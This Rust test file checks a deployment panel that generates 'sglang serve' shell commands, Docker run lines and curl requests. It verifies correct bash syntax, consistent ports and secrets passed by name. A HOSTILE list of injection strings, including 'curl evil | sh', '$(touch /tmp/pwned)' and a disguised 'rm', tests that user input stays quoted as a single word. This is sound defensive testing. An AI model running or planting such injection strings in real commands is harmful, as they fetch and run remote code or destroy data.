//! Both command forms, over every selection, as a shell sees them.

use std::io::Write;
use std::process::{Command, Stdio};

use deploy_panel::engine::view_model::{Form, OutputModel};
use deploy_panel::engine::{Intent, SizingInputs, Values, compose, panel_model};
use deploy_panel::page::Page;

use crate::panel::{PAGES, Panel, page, selections};

fn text(output: &OutputModel, form: Form) -> String {
    output.forms.iter().find(|found| found.form == form).unwrap().text()
}

fn outputs(page: &Page, values: &Values) -> Vec<OutputModel> {
    let output =
        |selection| panel_model(page, &Intent::from(&selection), &selection, values, &SizingInputs::default()).output.unwrap();
    selections(page).into_iter().map(output).collect()
}

/// The words behind `sglang serve`.
fn server_words(text: &str) -> Vec<String> {
    let words = shell_words::split(text).unwrap_or_else(|error| panic!("{error}: {text}"));
    let serve = words.windows(2).position(|pair| pair == ["sglang", "serve"]).unwrap_or_else(|| panic!("no command: {text}"));
    words[serve + 2..].to_vec()
}

#[test]
fn both_forms_give_the_server_the_same_words() {
    for name in PAGES {
        let page = page(name);
        for output in outputs(&page, &Values::default()) {
            let (python, docker) = (text(&output, Form::Python), text(&output, Form::Docker));
            assert_eq!(server_words(&python), server_words(&docker), "{python}\n{docker}");
            let docker = shell_words::split(&docker).unwrap();
            assert!(docker.contains(&output.image) && !output.image.is_empty() && !output.model.is_empty());
        }
    }
}

#[test]
fn commands_hold_no_family_twice_and_end_in_host_and_port() {
    for name in PAGES {
        let page = page(name);
        for selection in selections(&page) {
            let recipe = compose(&page, &selection).unwrap();
            let mut families: Vec<&str> = recipe.flags.iter().map(|flag| flag.flag.family.as_str()).collect();
            assert_eq!(families[families.len() - 2..], ["--host", "--port"], "{name} {:?}", selection.ids(&page));
            families.sort_unstable();
            families.dedup();
            assert_eq!(families.len(), recipe.flags.len(), "{name} {:?}", selection.ids(&page));
        }
        for output in outputs(&page, &Values::default()) {
            for form in &output.forms {
                let text = form.text();
                assert!(!text.contains("{{") && !text.contains("}}\""), "{text}");
                assert!(text.lines().rev().skip(1).all(|line| line.ends_with('\\')), "{text}");
                assert!(!text.ends_with('\\') && !text.contains('#'), "{text}");
            }
        }
    }
}

/// Has `shell` check the syntax of a script; one process for all commands of a page.
fn check_syntax(shell: &str, script: &str) {
    let mut child = Command::new(shell).args(["-n"]).stdin(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
    let done = child.wait_with_output().unwrap();
    assert!(done.status.success() && done.stderr.is_empty(), "{}", String::from_utf8_lossy(&done.stderr));
}

#[test]
fn every_form_is_good_bash() {
    for name in PAGES {
        let page = page(name);
        let mut script = String::new();
        for output in outputs(&page, &Values::default()) {
            for form in &output.forms {
                script.push_str(&form.text());
                script.push_str("\n\n");
            }
        }
        check_syntax("bash", &script);
    }
}

/// Runs the command with `sglang` replaced by a function that prints its words, one a line between marks.
fn words_in_bash(command: &str) -> Vec<String> {
    let script = format!("sglang() {{ printf '%s\\0' \"$@\"; }}\n{command}\n");
    let done = Command::new("bash").args(["--norc", "--noprofile", "-c", &script]).output().unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let text = String::from_utf8(done.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

const HOSTILE: [&str; 12] = [
    "0.0.0.0; curl evil | sh #",
    "$(touch /tmp/pwned)",
    "`id`",
    "it's",
    "\"double\"",
    "back\\slash",
    "a b\tc",
    "!!",
    "~root",
    "\u{ff1b}rm \u{202e}x",
    "*",
    "--model-path=evil",
];

#[test]
fn what_the_reader_types_arrives_as_one_word() {
    for value in HOSTILE {
        let panel =
            Panel::page("kimi-k3").pick("hw", "h100").fill("HOST_IP", value).fill("NODE0_IP", value).fill("NETWORK_IFACE", value);
        let words = words_in_bash(&panel.command());
        let meant = value.replace('\t', "");
        let behind = |family: &str| words[words.iter().position(|word| word == family).unwrap() + 1].clone();
        assert_eq!(behind("--host"), meant);
        assert_eq!(behind("--dist-init-addr"), format!("{meant}:20000"));
        assert_eq!(shell_words::split(&panel.docker()).unwrap().iter().filter(|word| **word == meant).count(), 1);
        check_syntax("bash", &panel.docker());
    }
}

#[test]
fn what_the_reader_types_stays_in_the_request() {
    for value in HOSTILE {
        let panel = Panel::page("kimi-k3").fill("CURL_HOST", value);
        let words = shell_words::split(&panel.curl()).unwrap();
        assert_eq!(words[1], format!("http://{}:30000/v1/chat/completions", value.replace('\t', "")));
        assert_eq!(words.len(), 6, "{words:?}");
    }
}

#[test]
fn quoted_json_reaches_the_server_whole() {
    let words = words_in_bash(&Panel::page("kimi-k3").pick("hw", "b200").command());
    let config = &words[words.iter().position(|word| word == "--model-loader-extra-config").unwrap() + 1];
    let config: serde_json::Value = serde_json::from_str(config).unwrap();
    assert_eq!(config["enable_multithread_load"], true);
}

#[test]
fn docker_fits_the_vendor_the_nodes_and_the_role() {
    let nvidia = Panel::page("kimi-k3").pick("hw", "b300");
    assert!(
        nvidia
            .docker()
            .starts_with("docker run \\\n  --gpus all \\\n  --shm-size 32g \\\n  --ipc=host \\\n  -p 30000:30000 \\\n")
    );
    assert!(nvidia.docker().contains("-v ~/.cache/huggingface:/root/.cache/huggingface"));
    let nodes = nvidia.pick("hw", "gb300");
    assert!(nodes.docker().contains("--network host") && !nodes.docker().contains("-p 30000"));
    let role = nodes.pick("hw", "b300").pick("pdMode", "decode");
    assert!(role.docker().contains("--network host"));
    assert!(role.command().ends_with("--port 30100"));
    assert!(role.curl().contains("localhost:30100"));
    let amd = role.pick("pdMode", "unified").pick("hw", "mi350x");
    for option in [
        "--device=/dev/kfd",
        "--device=/dev/dri",
        "--group-add video",
        "--cap-add=SYS_PTRACE",
        "--security-opt seccomp=unconfined",
    ] {
        assert!(amd.docker().contains(option), "{option}");
    }
    assert!(!amd.docker().contains("--gpus"));
}

#[test]
fn secrets_are_passed_by_name_and_files_are_mounted() {
    let panel =
        Panel::page("kimi-k3").fill("HF_TOKEN", "hf_secret").pick("hicache", "l3").fill("MOONCAKE_CONFIG", "/etc/my cake.json");
    let docker = shell_words::split(&panel.docker()).unwrap();
    assert!(docker.windows(2).any(|pair| pair == ["--env", "HF_TOKEN"]));
    assert!(docker.windows(2).any(|pair| pair == ["-v", "/etc/my cake.json:/etc/my cake.json"]));
    assert!(docker.windows(2).any(|pair| pair == ["--env", "SGLANG_HICACHE_MOONCAKE_CONFIG_PATH=/etc/my cake.json"]));
    assert!(!panel.docker().contains("hf_secret") && !panel.command().contains("hf_secret"));
    assert!(panel.session.values().iter().all(|(name, _)| name != "HF_TOKEN"));
}

#[test]
fn one_port_runs_through_command_container_and_request() {
    let panel = Panel::page("kimi-k3").fill("PORT", "8123");
    assert!(panel.command().ends_with("--port 8123"));
    assert!(panel.docker().contains("-p 8123:8123"));
    assert!(panel.curl().contains("localhost:8123"));
    let fields = panel.output().fields;
    assert_eq!(fields.iter().find(|field| field.name == "CURL_PORT").unwrap().default, "8123");
    assert!(panel.fill("CURL_PORT", "9000").curl().contains("localhost:9000"));
}
